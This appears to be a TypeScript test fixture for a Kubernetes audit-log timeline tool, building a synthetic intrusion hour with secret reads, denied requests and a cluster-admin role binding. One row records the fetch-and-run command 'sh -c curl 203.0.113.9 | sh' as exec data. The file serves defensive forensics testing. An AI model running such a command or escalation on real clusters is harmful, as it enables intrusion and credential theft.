import type { QuestionCoverage } from '../../../src/audit-log/coverage/coverage.ts'
import type { TimelineReport, TimelineRow } from '../../../src/audit-log/timeline-rows.ts'
import { apiVersion } from '../../../src/snapshot/snapshot.ts'

export const done = { decision: 'allow' as const, result: 'done' as const, code: 200 }
export const denied = {
  decision: 'forbid' as const,
  result: 'denied' as const,
  code: 403,
  why: 'no RBAC policy matched',
}

/** Microseconds after a round time, as an audit log writes them. */
export function timeAt(micros: number): string {
  const ms = Math.floor(micros / 1000)
  const rest = String(micros - ms * 1000).padStart(3, '0')
  return new Date(Date.parse('2026-03-03T14:00:00Z') + ms).toISOString().replace('Z', `${rest}Z`)
}

export function row(micros: number, given: Partial<TimelineRow> = {}): TimelineRow {
  const time = timeAt(micros)
  return {
    kind: 'audit',
    time,
    corrected: time,
    uncertaintyMs: 0,
    source: 'audit',
    by: 'alice',
    what: 'get pods',
    outcome: done,
    at: [{ file: 'audit.log', line: 1 }],
    count: 1,
    questions: [],
    attack: [],
    ...given,
  }
}

const needs = (why: string): QuestionCoverage['needs'] => [
  {
    need: { verb: 'create', group: '', resource: 'pods', subresource: 'exec', level: 'Metadata' },
    verdict: 'not-logged',
    why: [why],
  },
]

export function timelineReport(entries: TimelineRow[], given: Partial<TimelineReport> = {}): TimelineReport {
  return {
    apiVersion,
    kind: 'TimelineReport',
    complete: false,
    gaps: [],
    notes: [],
    read: { files: [], lines: 0, bytes: 0, events: 0, foreign: 0, salvaged: 0 } as unknown as TimelineReport['read'],
    coverage: [
      { question: 'exec', verdict: 'unanswerable', needs: needs('rules[0]: not logged'), blind: 'what was typed' },
      { question: 'tokens', verdict: 'answerable', needs: [] },
    ],
    others: 0,
    own: 0,
    entries,
    ...given,
  }
}

const second = 1_000_000

/** An hour with an intruder in it, of every kind and weight. */
export function incident(): TimelineReport {
  const rows: TimelineRow[] = []
  const account = (name: string) => `system:serviceaccount:${name}`
  for (let at = 0; at < 3600; at += 5)
    rows.push(
      row(at * second + 1234, {
        by: 'system:kube-scheduler',
        what: 'update leases',
        namespace: 'kube-system',
        name: 'kube-scheduler',
      }),
    )
  for (let at = 2; at < 3600; at += 11)
    rows.push(
      row(at * second, {
        by: account('payments:api'),
        what: 'get configmaps',
        namespace: 'payments',
        name: 'settings',
        from: '10.0.3.7',
      }),
    )
  for (let at = 30; at < 3600; at += 300)
    rows.push(
      row(at * second, {
        by: account('kube-system:replicaset-controller'),
        what: 'create pods',
        questions: ['privileged-pods'],
        routine: 'a controller of the control plane',
        namespace: 'payments',
      }),
    )
  for (let at = 1500; at < 1506; at += 0.2)
    rows.push(
      row(Math.round(at * second), {
        by: account('payments:api'),
        as: 'admin',
        what: 'list secrets',
        outcome: denied,
        from: '203.0.113.9',
        namespace: 'payments',
      }),
    )
  rows.push(
    row(1506 * second, {
      by: account('payments:api'),
      what: '30 refusals in 6 s',
      outcome: denied,
      count: 30,
      until: timeAt(1511 * second),
      questions: ['refusals'],
      attack: ['T1613'],
      from: '203.0.113.9',
    }),
    row(1530 * second, {
      by: 'mallory@example.com',
      what: 'exec: sh -c curl 203.0.113.9 | sh',
      namespace: 'payments',
      name: 'api-0',
      until: timeAt(2400 * second),
      outcome: { decision: 'allow', result: 'open', code: 101 },
      questions: ['exec'],
      attack: ['T1609'],
      from: '203.0.113.9',
    }),
    row(1560 * second, {
      by: 'mallory@example.com',
      what: 'get secrets',
      namespace: 'payments',
      name: 'db',
      questions: ['secrets-read'],
      attack: ['T1552.007'],
      from: '203.0.113.9',
    }),
    row(1620 * second, {
      by: 'mallory@example.com',
      what: 'create clusterrolebindings: cluster-admin to mallory',
      questions: ['rbac-changes'],
      attack: ['T1098'],
      from: '203.0.113.9',
    }),
    row(1800 * second, {
      by: '',
      what: 'get /version',
      outcome: { decision: 'none', result: 'unauthenticated', code: 401 },
      from: '198.51.100.4',
    }),
    row(1610 * second, {
      kind: 'event',
      by: 'kubelet',
      claimed: true,
      source: 'node/worker-1',
      time: timeAt(1612 * second),
      uncertaintyMs: 15_000,
      orderSure: false,
      what: 'Pulled: image curlimages/curl',
      namespace: 'payments',
      name: 'api-0',
    }),
    row(1640 * second, {
      kind: 'state',
      by: '',
      source: 'node/worker-1',
      uncertaintyMs: 500,
      what: 'container api terminated: exit 137',
      namespace: 'payments',
      name: 'api-0',
    }),
    row(3000 * second, {
      kind: 'request',
      own: true,
      by: 'alice@example.com',
      source: 'this-machine',
      what: 'get pods',
      namespace: 'payments',
    }),
    row(3050 * second, {
      kind: 'change',
      own: true,
      by: 'alice@example.com',
      source: 'this-machine',
      what: 'create NetworkPolicy',
      namespace: 'payments',
      name: 'quarantine-x',
    }),
    row(0, { time: '', corrected: '', by: 'bob', what: 'delete events' }),
  )
  return timelineReport(rows, {
    gaps: [{ what: 'read audit-2.log.gz', why: 'it ends in the middle', hides: 'what was after 14:48' }],
    notes: ['one note'],
    others: 1234,
    span: {
      first: timeAt(0),
      last: timeAt(3600 * second),
      silences: [{ from: timeAt(2000 * second), to: timeAt(2300 * second) }],
    },
  })
}

/** As many rows as the command takes, of so many actors. */
export function many(count: number, actors = 300): TimelineReport {
  const rows = Array.from({ length: count }, (_, index) => {
    const by =
      index % 7 === 0 ? `user-${index % actors}@example.com` : `system:serviceaccount:team-${index % actors}:app`
    const isExec = index % 5003 === 0
    return row(index * 431_000 + ((index * 7919) % 100_000), {
      by,
      from: `10.0.${index % 200}.${index % 250}`,
      what: isExec
        ? 'exec: sh'
        : `${['get', 'list', 'patch', 'create'][index % 4]} ${['secrets', 'pods', 'configmaps', 'leases'][index % 3]}`,
      namespace: `team-${index % actors}`,
      name: `object-${index % 50_000}`,
      outcome: index % 97 === 0 ? denied : done,
      questions: isExec ? ['exec'] : [],
      attack: isExec ? ['T1609'] : [],
      at: [
        { file: 'audit.log', line: index * 2 + 1 },
        { file: 'audit.log', line: index * 2 + 2 },
      ],
    })
  })
  return timelineReport(rows)
}
